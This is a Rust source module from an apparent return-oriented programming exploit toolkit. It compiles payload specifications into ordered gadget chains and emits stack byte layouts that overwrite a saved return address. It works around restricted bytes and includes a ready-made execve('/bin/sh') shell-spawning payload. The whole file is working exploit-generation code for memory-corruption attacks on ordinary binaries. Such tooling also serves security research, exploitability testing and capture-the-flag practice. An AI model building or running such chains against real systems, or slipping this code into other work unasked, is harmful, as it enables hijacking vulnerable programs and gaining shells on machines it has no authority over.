//! Chain compilation: payload specifications into ordered gadget sequences
//! with concrete stack layouts.
//!
//! A payload splits into register setting plus one final gadget (a store, a
//! syscall, or a function address). Register setting uses the shortest-chain
//! search; values the delivery channel forbids are rebuilt by the badchars
//! synthesizer; segment ordering respects clobbers.

mod compose;
mod movegraph;
mod setregs;

use std::collections::{BTreeMap, HashMap};

use serde::{Deserialize, Serialize};
use thiserror::Error;

pub use compose::{controlled_of, ControlledRegs};
pub use movegraph::{find_move_path, MovePath};
pub use setregs::{search_all, shortest_setreg_chains, SearchLimits, SetRegChain, SetRegSearch};

use crate::badchars::{synthesize_load, SynthesisError, SynthOpts};
use crate::binfront::OpWidth;
use crate::catalog::{Catalog, CatalogEntry};
use crate::platform::Platform;
use crate::regs::{Reg, RegSet};
use crate::semantics::{
    analyze_frame, summarize, GadgetClass, GadgetFrame, GadgetSummary, NextSource,
};

#[derive(Debug, Error)]
pub enum ChainError {
    #[error("no usable gadget: {0}")]
    MissingGadget(String),
    #[error("cannot control registers {0}")]
    Unsatisfiable(RegSet),
    #[error("gadget cannot continue a ret chain: {0}")]
    NonComposable(String),
    #[error("restricted byte {byte:#04x} unavoidable in {what}")]
    BadcharUnavoidable { what: String, byte: u8, offset: Option<usize> },
    #[error("no move path {src} -> {dst}")]
    NoPath { src: Reg, dst: Reg },
    #[error("unbound symbolic hole {0}")]
    UnboundHole(String),
    #[error("cannot order chain segments without clobbering: {0}")]
    SchedulingConflict(String),
    #[error("value synthesis failed: {0}")]
    Synthesis(#[from] SynthesisError),
    #[error("catalog has no compile-eligible entries")]
    EmptyCatalog,
}

/// What one stack word of a gadget frame holds.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum SlotValue {
    Value { value: u64, label: Option<String> },
    Hole(String),
}

impl SlotValue {
    pub fn value(v: u64) -> SlotValue {
        SlotValue::Value { value: v, label: None }
    }

    pub fn labeled(v: u64, label: impl Into<String>) -> SlotValue {
        SlotValue::Value { value: v, label: Some(label.into()) }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ChainStep {
    pub va: u64,
    pub text: String,
    pub frame: GadgetFrame,
    /// Frame-offset bindings; unbound slots become filler words.
    pub bindings: BTreeMap<u64, SlotValue>,
}

/// Where the last ret of the chain goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum FinalTarget {
    /// A recognizable dead-end value (payloads that just set state).
    Sentinel,
    /// A concrete address (function calls).
    Address(u64),
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Chain {
    pub steps: Vec<ChainStep>,
    pub final_target: FinalTarget,
}

impl Chain {
    pub fn gadget_vas(&self) -> Vec<u64> {
        self.steps.iter().map(|s| s.va).collect()
    }

    /// Replace a named hole with a concrete value.
    pub fn bind(&mut self, tag: &str, value: u64) -> bool {
        for step in &mut self.steps {
            for slot in step.bindings.values_mut() {
                if matches!(slot, SlotValue::Hole(t) if t == tag) {
                    *slot = SlotValue::Value { value, label: Some(tag.to_string()) };
                    return true;
                }
            }
        }
        false
    }
}

/// Role a layout word plays, for listings.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum WordRole {
    GadgetAddress,
    Operand,
    Padding,
    FinalTarget,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LayoutWord {
    pub offset: u64,
    pub value: u64,
    pub role: WordRole,
    pub comment: String,
}

/// Concrete stack bytes realizing a chain. The first 8 bytes occupy the
/// overwritten return-address slot.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct StackLayout {
    #[serde(with = "hex")]
    pub bytes: Vec<u8>,
    pub words: Vec<LayoutWord>,
    /// Labeled operand slots: name to byte offset within the layout.
    pub symbols: BTreeMap<String, u64>,
}

impl StackLayout {
    pub fn word_at(&self, offset: u64) -> u64 {
        let i = offset as usize;
        u64::from_le_bytes(self.bytes[i..i + 8].try_into().unwrap())
    }
}

/// One gadget as the compiler sees it: decoded, framed, summarized.
pub struct CompileGadget {
    pub va: u64,
    pub text: String,
    pub raw: Vec<u8>,
    pub frame: GadgetFrame,
    pub instr_count: usize,
    pub summary: GadgetSummary,
    /// Registers the gadget writes (rsp excluded).
    pub writes: RegSet,
    /// Does it dereference-write memory through a non-rsp register?
    pub writes_memory: bool,
    pub classes: Vec<(GadgetClass, OpWidth)>,
}

/// Catalog view the compiler works over.
pub struct CompileCtx {
    pub gadgets: Vec<CompileGadget>,
    /// Indices sorted by the catalog quality key.
    pub gadget_order: Vec<usize>,
    pub bad_bytes: Vec<u8>,
}

impl CompileCtx {
    pub fn new(catalog: &Catalog, verified_only: bool) -> Result<CompileCtx, ChainError> {
        let mut by_key: HashMap<(u64, Vec<u8>), usize> = HashMap::new();
        let mut gadgets: Vec<CompileGadget> = Vec::new();

        let eligible: Vec<&CatalogEntry> = catalog.compile_entries(!verified_only);
        for entry in eligible {
            let key = (entry.va, entry.machine_instructions.bytes.clone());
            let idx = match by_key.get(&key) {
                Some(i) => *i,
                None => {
                    let Some(gadget) = entry.gadget() else {
                        continue;
                    };
                    let Ok(frame) = analyze_frame(&gadget) else {
                        continue;
                    };
                    let Ok(summary) = summarize(&gadget) else {
                        continue;
                    };
                    let writes: RegSet = Reg::ALL
                        .into_iter()
                        .filter(|r| {
                            *r != Reg::Rsp
                                && summary.post[r.index()]
                                    != summary.arena.var_term(summary.reg_vars[r.index()])
                        })
                        .collect();
                    let writes_memory = summary
                        .preconds
                        .iter()
                        .any(|p| p.access == crate::semantics::Access::Write);
                    gadgets.push(CompileGadget {
                        va: gadget.va,
                        text: gadget.text(),
                        raw: gadget.raw_bytes.clone(),
                        frame,
                        instr_count: gadget.instrs.len(),
                        summary,
                        writes,
                        writes_memory,
                        classes: Vec::new(),
                    });
                    let idx = gadgets.len() - 1;
                    by_key.insert(key, idx);
                    idx
                }
            };
            gadgets[idx].classes.push((entry.parameters, entry.width));
        }

        if gadgets.is_empty() {
            return Err(ChainError::EmptyCatalog);
        }

        let mut gadget_order: Vec<usize> = (0..gadgets.len()).collect();
        gadget_order.sort_by_key(|&i| {
            (
                gadgets[i].instr_count,
                gadgets[i].frame.frame_size,
                gadgets[i].va,
            )
        });

        Ok(CompileCtx {
            gadgets,
            gadget_order,
            bad_bytes: catalog.bad_bytes.clone().unwrap_or_default(),
        })
    }

    pub fn step_of(&self, gadget_idx: usize, bindings: BTreeMap<u64, SlotValue>) -> ChainStep {
        let g = &self.gadgets[gadget_idx];
        ChainStep {
            va: g.va,
            text: g.text.clone(),
            frame: g.frame.clone(),
            bindings,
        }
    }

    /// Gadgets with a given claimed class, catalog order.
    pub fn with_class(&self, pred: impl Fn(&GadgetClass) -> bool) -> Vec<(usize, GadgetClass)> {
        let mut out = Vec::new();
        for &i in &self.gadget_order {
            for (class, w) in &self.gadgets[i].classes {
                if *w == OpWidth::W64 && pred(class) {
                    out.push((i, *class));
                }
            }
        }
        out
    }

    pub fn find_gadget(&self, step: &ChainStep) -> Option<usize> {
        self.gadgets
            .iter()
            .position(|g| g.va == step.va && g.frame == step.frame)
    }
}

/// Payload argument: a plain value or a pointer to bytes the chain must
/// first write somewhere readable.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum ArgSpec {
    Value(u64),
    StringPtr { addr: u64, bytes: Vec<u8> },
}

impl ArgSpec {
    pub fn register_value(&self) -> u64 {
        match self {
            ArgSpec::Value(v) => *v,
            ArgSpec::StringPtr { addr, .. } => *addr,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum PayloadKind {
    SetRegs(BTreeMap<Reg, u64>),
    MemWrite { addr: u64, bytes: Vec<u8> },
    Syscall { number: u64, args: Vec<ArgSpec> },
    CallFunction { addr: u64, args: Vec<ArgSpec> },
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PayloadSpec {
    pub kind: PayloadKind,
    pub bad_bytes: Vec<u8>,
    pub platform: Platform,
}

impl PayloadSpec {
    pub fn new(kind: PayloadKind) -> PayloadSpec {
        PayloadSpec {
            kind,
            bad_bytes: Vec::new(),
            platform: Platform::default(),
        }
    }

    /// The classic proof-of-exploitability payload: execve("/bin/sh", 0, 0).
    /// `string_addr` is writable scratch memory for the path bytes.
    pub fn execve_binsh(platform: Platform, string_addr: u64) -> PayloadSpec {
        let number = platform
            .syscall_number("execve")
            .expect("platform table defines execve");
        PayloadSpec {
            kind: PayloadKind::Syscall {
                number,
                args: vec![
                    ArgSpec::StringPtr { addr: string_addr, bytes: b"/bin/sh\0".to_vec() },
                    ArgSpec::Value(0),
                    ArgSpec::Value(0),
                ],
            },
            bad_bytes: Vec::new(),
            platform,
        }
    }
}

#[derive(Debug, Clone, Default)]
pub struct CompileOpts {
    pub verified_only: bool,
    pub limits: SearchLimits,
    pub synth: SynthOpts,
}

/// A schedulable group of steps establishing some registers.
pub(crate) struct Segment {
    pub steps: Vec<ChainStep>,
    pub sets: RegSet,
    pub clobbers: RegSet,
}

/// Order segments so nothing clobbers an earlier segment's outputs; first
/// valid permutation in index order wins.
fn schedule(mut segments: Vec<Segment>) -> Result<Vec<Segment>, ChainError> {
    let n = segments.len();
    if n <= 1 {
        return Ok(segments);
    }
    let mut order: Vec<usize> = (0..n).collect();
    let valid = |order: &[usize], segs: &[Segment]| {
        for (pos, &j) in order.iter().enumerate() {
            let later_clobbers = segs[j].clobbers;
            for &i in &order[..pos] {
                if !later_clobbers.intersection(segs[i].sets).is_empty() {
                    return false;
                }
            }
        }
        true
    };
    let found = permutations_first(&mut order, &|o| valid(o, &segments));
    if !found {
        let all: RegSet = segments.iter().fold(RegSet::EMPTY, |a, s| a.union(s.sets));
        return Err(ChainError::SchedulingConflict(format!(
            "no clobber-safe order for registers {all}"
        )));
    }
    // apply the found permutation
    let mut out: Vec<Option<Segment>> = segments.drain(..).map(Some).collect();
    Ok(order.iter().map(|&i| out[i].take().unwrap()).collect())
}

/// Lexicographic permutation search; leaves the first valid order in `idx`.
fn permutations_first(idx: &mut Vec<usize>, valid: &dyn Fn(&[usize]) -> bool) -> bool {
    fn rec(idx: &mut Vec<usize>, k: usize, valid: &dyn Fn(&[usize]) -> bool) -> bool {
        if k == idx.len() {
            return valid(idx);
        }
        for i in k..idx.len() {
            idx.swap(k, i);
            // keep remaining tail sorted for lexicographic order
            idx[k + 1..].sort_unstable();
            if rec(idx, k + 1, valid) {
                return true;
            }
        }
        idx[k..].sort_unstable();
        false
    }
    rec(idx, 0, valid)
}

fn value_has_bad_byte(v: u64, bad: &[u8]) -> Option<u8> {
    v.to_le_bytes().iter().copied().find(|b| bad.contains(b))
}

/// Build the segment that sets all badchar-clean registers via the shortest
/// covering chain.
fn clean_cover_segment(
    ctx: &CompileCtx,
    assignments: &BTreeMap<Reg, u64>,
    limits: SearchLimits,
) -> Result<Segment, ChainError> {
    let targets: RegSet = assignments.keys().copied().collect();
    let search = shortest_setreg_chains(ctx, targets, limits)?;
    let cover = search
        .best_cover(targets)
        .ok_or(ChainError::Unsatisfiable(targets))?;

    // Map each target's global slot offset into a per-step frame binding.
    let mut per_step: Vec<BTreeMap<u64, SlotValue>> =
        vec![BTreeMap::new(); cover.gadgets.len()];
    for (reg, value) in assignments {
        let global = cover
            .controlled
            .slot_of(*reg)
            .expect("cover controls every target");
        let (step_idx, frame_off) = locate_slot(ctx, &cover.gadgets, global);
        per_step[step_idx].insert(frame_off, SlotValue::labeled(*value, reg.name()));
    }

    let mut steps = Vec::new();
    let mut clobbers = RegSet::EMPTY;
    for (i, &g) in cover.gadgets.iter().enumerate() {
        clobbers = clobbers.union(ctx.gadgets[g].writes);
        steps.push(ctx.step_of(g, std::mem::take(&mut per_step[i])));
    }
    Ok(Segment {
        steps,
        sets: targets,
        clobbers: clobbers.difference(targets),
    })
}

/// Which step of a gadget sequence owns the global byte offset.
fn locate_slot(ctx: &CompileCtx, gadget_seq: &[usize], global_off: u64) -> (usize, u64) {
    let mut base = 0u64;
    for (i, &g) in gadget_seq.iter().enumerate() {
        let fs = ctx.gadgets[g].frame.frame_size.max(0) as u64;
        if global_off < base + fs {
            return (i, global_off - base);
        }
        base += fs;
    }
    panic!("slot offset {global_off:#x} outside chain frames");
}

/// Plan the register-setting part of a payload: clean values through one
/// covering chain, restricted values through the badchars synthesizer.
fn plan_setregs(
    ctx: &CompileCtx,
    assignments: &BTreeMap<Reg, u64>,
    bad: &[u8],
    opts: &CompileOpts,
) -> Result<Vec<Segment>, ChainError> {
    let mut clean = BTreeMap::new();
    let mut dirty = BTreeMap::new();
    for (reg, value) in assignments {
        if value_has_bad_byte(*value, bad).is_some() {
            dirty.insert(*reg, *value);
        } else {
            clean.insert(*reg, *value);
        }
    }

    let mut segments = Vec::new();
    if !clean.is_empty() {
        segments.push(clean_cover_segment(ctx, &clean, opts.limits)?);
    }
    for (reg, value) in dirty {
        let synth = synthesize_load(ctx, reg, value, bad, &opts.synth)?;
        segments.push(Segment {
            steps: synth.steps,
            sets: RegSet::single(reg),
            clobbers: synth.clobbers.difference(RegSet::single(reg)),
        });
    }
    Ok(segments)
}

/// How a memory word gets stored.
enum StorePlan {
    /// mov [addr_reg + disp], src
    Direct { gadget: usize, addr_reg: Reg, disp: i64, src: Reg },
    /// mov [addr_reg + disp], 0 then add [addr_reg + disp], src
    ZeroAdd { zero: usize, adder: usize, addr_reg: Reg, disp: i64, src: Reg },
}

fn pick_store(ctx: &CompileCtx) -> Option<StorePlan> {
    for (gi, class) in ctx.with_class(|c| matches!(c, GadgetClass::StoreMem { .. })) {
        let GadgetClass::StoreMem { addr_reg, disp, src } = class else {
            continue;
        };
        if addr_reg == src || addr_reg == Reg::Rsp || src == Reg::Rsp {
            continue;
        }
        // the gadget must leave its own operands alone until the store lands
        if !ctx.gadgets[gi].writes.intersection(RegSet::of(&[addr_reg, src])).is_empty() {
            continue;
        }
        return Some(StorePlan::Direct { gadget: gi, addr_reg, disp, src });
    }
    // fallback: zeroing store plus add-to-memory on the same address register
    for (zi, zc) in ctx.with_class(|c| matches!(c, GadgetClass::StoreConst { value: 0, .. })) {
        let GadgetClass::StoreConst { addr_reg, disp, .. } = zc else {
            continue;
        };
        for (ai, ac) in ctx.with_class(|c| {
            matches!(
                c,
                GadgetClass::ArithmeticStore { op: crate::semantics::AluOp::Add, .. }
            )
        }) {
            let GadgetClass::ArithmeticStore { addr_reg: a2, disp: d2, src, .. } = ac else {
                continue;
            };
            if a2 != addr_reg || d2 != disp || src == addr_reg || src == Reg::Rsp {
                continue;
            }
            let protected = RegSet::of(&[addr_reg, src]);
            if !ctx.gadgets[zi].writes.intersection(protected).is_empty()
                || !ctx.gadgets[ai].writes.intersection(protected).is_empty()
            {
                continue;
            }
            return Some(StorePlan::ZeroAdd { zero: zi, adder: ai, addr_reg, disp, src });
        }
    }
    None
}

/// 8-byte word plan for an arbitrary byte string, honoring the null-byte
/// handling rules for restricted channels.
fn memwrite_words(addr: u64, bytes: &[u8], bad: &[u8]) -> Result<Vec<(u64, u64)>, ChainError> {
    assert!(!bytes.is_empty(), "MemWrite bytes must be non-empty");
    let zero_ok = !bad.contains(&0);
    let full = bytes.len() / 8;
    let rem = bytes.len() % 8;
    let mut words = Vec::new();
    for k in 0..full {
        let w = u64::from_le_bytes(bytes[k * 8..k * 8 + 8].try_into().unwrap());
        words.push((addr + (k as u64) * 8, w));
    }
    if rem > 0 {
        if !zero_ok && bytes.len() >= 8 {
            // Slide the final word back so it holds only string bytes; the
            // terminator beyond the string comes from pre-zeroed memory.
            let start = bytes.len() - 8;
            let w = u64::from_le_bytes(bytes[start..].try_into().unwrap());
            words.push((addr + start as u64, w));
        } else {
            // zero-padded tail; if zero is restricted the synthesizer will
            // have to materialize the value
            let mut tail = [0u8; 8];
            tail[..rem].copy_from_slice(&bytes[full * 8..]);
            words.push((addr + (full as u64) * 8, u64::from_le_bytes(tail)));
        }
    }
    Ok(words)
}

fn memwrite_segments(
    ctx: &CompileCtx,
    addr: u64,
    bytes: &[u8],
    bad: &[u8],
    opts: &CompileOpts,
) -> Result<Vec<ChainStep>, ChainError> {
    let plan = pick_store(ctx).ok_or_else(|| ChainError::MissingGadget("StoreMemG".into()))?;
    let words = memwrite_words(addr, bytes, bad)?;

    let mut steps = Vec::new();
    for (word_addr, word_val) in &words {
        match &plan {
            StorePlan::Direct { gadget, addr_reg, disp, src } => {
                let mut assignments = BTreeMap::new();
                assignments.insert(*addr_reg, word_addr.wrapping_sub(*disp as u64));
                assignments.insert(*src, *word_val);
                let ordered = schedule(plan_setregs(ctx, &assignments, bad, opts)?)?;
                for mut seg in ordered {
                    steps.append(&mut seg.steps);
                }
                steps.push(ctx.step_of(*gadget, BTreeMap::new()));
            }
            StorePlan::ZeroAdd { zero, adder, addr_reg, disp, src } => {
                // set the address register, zero the cell, load the value,
                // add it into the cell
                let mut addr_only = BTreeMap::new();
                addr_only.insert(*addr_reg, word_addr.wrapping_sub(*disp as u64));
                let mut val_only = BTreeMap::new();
                val_only.insert(*src, *word_val);

                let addr_segs = plan_setregs(ctx, &addr_only, bad, opts)?;
                let val_segs = plan_setregs(ctx, &val_only, bad, opts)?;
                // value loading must leave the already-set address alone
                for seg in &val_segs {
                    if seg.clobbers.contains(*addr_reg) {
                        return Err(ChainError::SchedulingConflict(format!(
                            "value loader clobbers address register {addr_reg}"
                        )));
                    }
                }
                for mut seg in addr_segs {
                    steps.append(&mut seg.steps);
                }
                steps.push(ctx.step_of(*zero, BTreeMap::new()));
                for mut seg in val_segs {
                    steps.append(&mut seg.steps);
                }
                steps.push(ctx.step_of(*adder, BTreeMap::new()));
            }
        }
    }
    Ok(steps)
}

fn pick_syscall_gadget(ctx: &CompileCtx, protected: RegSet) -> Result<usize, ChainError> {
    ctx.with_class(|c| matches!(c, GadgetClass::Syscall))
        .into_iter()
        .map(|(gi, _)| gi)
        .find(|&gi| ctx.gadgets[gi].writes.intersection(protected).is_empty())
        .ok_or_else(|| ChainError::MissingGadget("SyscallG".into()))
}

/// Compile a payload specification into a chain.
pub fn compile_payload(catalog: &Catalog, payload: &PayloadSpec) -> Result<Chain, ChainError> {
    compile_payload_with(catalog, payload, &CompileOpts::default())
}

pub fn compile_payload_with(
    catalog: &Catalog,
    payload: &PayloadSpec,
    opts: &CompileOpts,
) -> Result<Chain, ChainError> {
    let ctx = CompileCtx::new(catalog, opts.verified_only)?;
    compile_with_ctx(&ctx, payload, opts)
}

pub fn compile_with_ctx(
    ctx: &CompileCtx,
    payload: &PayloadSpec,
    opts: &CompileOpts,
) -> Result<Chain, ChainError> {
    let bad = &payload.bad_bytes;
    match &payload.kind {
        PayloadKind::SetRegs(assignments) => {
            let segments = schedule(plan_setregs(ctx, assignments, bad, opts)?)?;
            let mut steps = Vec::new();
            for mut seg in segments {
                steps.append(&mut seg.steps);
            }
            Ok(Chain { steps, final_target: FinalTarget::Sentinel })
        }
        PayloadKind::MemWrite { addr, bytes } => {
            let steps = memwrite_segments(ctx, *addr, bytes, bad, opts)?;
            Ok(Chain { steps, final_target: FinalTarget::Sentinel })
        }
        PayloadKind::Syscall { number, args } => {
            if args.len() > payload.platform.arg_regs.len() {
                return Err(ChainError::MissingGadget(format!(
                    "too many syscall arguments ({})",
                    args.len()
                )));
            }
            let mut steps = Vec::new();
            // pointer arguments first: write their bytes into memory
            for arg in args {
                if let ArgSpec::StringPtr { addr, bytes } = arg {
                    steps.extend(memwrite_segments(ctx, *addr, bytes, bad, opts)?);
                }
            }
            let mut assignments = BTreeMap::new();
            for (i, arg) in args.iter().enumerate() {
                assignments.insert(payload.platform.arg_regs[i], arg.register_value());
            }
            assignments.insert(payload.platform.syscall_number_reg, *number);
            let protected: RegSet = assignments.keys().copied().collect();
            let segments = schedule(plan_setregs(ctx, &assignments, bad, opts)?)?;
            for mut seg in segments {
                steps.append(&mut seg.steps);
            }
            let sys = pick_syscall_gadget(ctx, protected)?;
            steps.push(ctx.step_of(sys, BTreeMap::new()));
            Ok(Chain { steps, final_target: FinalTarget::Sentinel })
        }
        PayloadKind::CallFunction { addr, args } => {
            if args.len() > payload.platform.arg_regs.len() {
                return Err(ChainError::MissingGadget(format!(
                    "too many call arguments ({})",
                    args.len()
                )));
            }
            let mut steps = Vec::new();
            for arg in args {
                if let ArgSpec::StringPtr { addr, bytes } = arg {
                    steps.extend(memwrite_segments(ctx, *addr, bytes, bad, opts)?);
                }
            }
            let mut assignments = BTreeMap::new();
            for (i, arg) in args.iter().enumerate() {
                assignments.insert(payload.platform.arg_regs[i], arg.register_value());
            }
            if !assignments.is_empty() {
                let segments = schedule(plan_setregs(ctx, &assignments, bad, opts)?)?;
                for mut seg in segments {
                    steps.append(&mut seg.steps);
                }
            }
            Ok(Chain { steps, final_target: FinalTarget::Address(*addr) })
        }
    }
}

/// Spec-level entry point: which registers does a chain leave under stack
/// control, per the catalog's summaries.
pub fn controlled_registers(catalog: &Catalog, chain: &Chain) -> Result<RegSet, ChainError> {
    let ctx = CompileCtx::new(catalog, false)?;
    let seq: Vec<usize> = chain
        .steps
        .iter()
        .map(|s| {
            ctx.find_gadget(s)
                .ok_or_else(|| ChainError::MissingGadget(format!("{} at {:#x}", s.text, s.va)))
        })
        .collect::<Result<_, _>>()?;
    Ok(controlled_of(&ctx, &seq)?.set)
}

/// First byte value outside the restricted set, for padding and sentinels.
fn clean_byte(bad: &[u8], preferred: &[u8]) -> Result<u8, ChainError> {
    preferred
        .iter()
        .copied()
        .chain(0u8..=255)
        .find(|b| !bad.contains(b))
        .ok_or(ChainError::BadcharUnavoidable {
            what: "every byte value is restricted".into(),
            byte: 0,
            offset: None,
        })
}

pub fn filler_word(bad: &[u8]) -> Result<u64, ChainError> {
    let b = clean_byte(bad, &[0x00, 0x42, 0x5A, 0x66])?;
    Ok(u64::from_le_bytes([b; 8]))
}

pub fn sentinel_word(bad: &[u8]) -> Result<u64, ChainError> {
    let b = clean_byte(bad, &[0xDE, 0xC0, 0x5E, 0x99])?;
    Ok(u64::from_le_bytes([b; 8]))
}

/// Lay the chain's frames out as concrete stack bytes.
///
/// The first word is the first gadget's address (it overwrites the saved
/// return address); every frame's next-address slot carries the following
/// gadget, ret-imm padding is filled, and each byte is checked against the
/// restricted set.
pub fn emit_stack(chain: &Chain, bad: &[u8]) -> Result<StackLayout, ChainError> {
    if chain.steps.is_empty() {
        return Err(ChainError::EmptyCatalog);
    }
    let filler = filler_word(bad)?;
    let mut words: Vec<LayoutWord> = Vec::new();
    let mut symbols = BTreeMap::new();

    let push_word = |words: &mut Vec<LayoutWord>, value: u64, role: WordRole, comment: String| {
        let offset = (words.len() * 8) as u64;
        words.push(LayoutWord { offset, value, role, comment });
    };

    push_word(
        &mut words,
        chain.steps[0].va,
        WordRole::GadgetAddress,
        format!("{} (return address slot)", chain.steps[0].text),
    );

    for (i, step) in chain.steps.iter().enumerate() {
        let fs = step.frame.frame_size;
        if fs < 0 || fs % 8 != 0 {
            return Err(ChainError::NonComposable(format!(
                "unusable frame size {fs} for {} at {:#x}",
                step.text, step.va
            )));
        }
        let next_off = match step.frame.next {
            NextSource::StackOffset(o) => Some(o),
            NextSource::Syscall => {
                if i + 1 != chain.steps.len() {
                    return Err(ChainError::NonComposable(
                        "syscall gadget before the end of the chain".into(),
                    ));
                }
                None
            }
            other => {
                return Err(ChainError::NonComposable(format!(
                    "{} has next source {:?}",
                    step.text, other
                )))
            }
        };
        for off in (0..fs as u64).step_by(8) {
            if Some(off) == next_off {
                if step.bindings.contains_key(&off) {
                    return Err(ChainError::NonComposable(format!(
                        "binding collides with the next-address slot of {}",
                        step.text
                    )));
                }
                let (value, role, comment) = match chain.steps.get(i + 1) {
                    Some(next) => (
                        next.va,
                        WordRole::GadgetAddress,
                        next.text.clone(),
                    ),
                    None => match chain.final_target {
                        FinalTarget::Address(a) => (a, WordRole::FinalTarget, "call target".into()),
                        FinalTarget::Sentinel => (
                            sentinel_word(bad)?,
                            WordRole::FinalTarget,
                            "terminal sentinel".into(),
                        ),
                    },
                };
                push_word(&mut words, value, role, comment);
            } else {
                match step.bindings.get(&off) {
                    Some(SlotValue::Value { value, label }) => {
                        if let Some(l) = label {
                            symbols.insert(l.clone(), (words.len() * 8) as u64);
                        }
                        let comment = label.clone().unwrap_or_else(|| "operand".into());
                        push_word(&mut words, *value, WordRole::Operand, comment);
                    }
                    Some(SlotValue::Hole(tag)) => {
                        return Err(ChainError::UnboundHole(tag.clone()));
                    }
                    None => {
                        push_word(&mut words, filler, WordRole::Padding, "padding".into());
                    }
                }
            }
        }
    }

    let mut bytes = Vec::with_capacity(words.len() * 8);
    for w in &words {
        bytes.extend_from_slice(&w.value.to_le_bytes());
    }
    if let Some(pos) = bytes.iter().position(|b| bad.contains(b)) {
        return Err(ChainError::BadcharUnavoidable {
            what: format!(
                "layout word at offset {:#x} ({})",
                pos - pos % 8,
                words[pos / 8].comment
            ),
            byte: bytes[pos],
            offset: Some(pos),
        });
    }

    Ok(StackLayout { bytes, words, symbols })
}
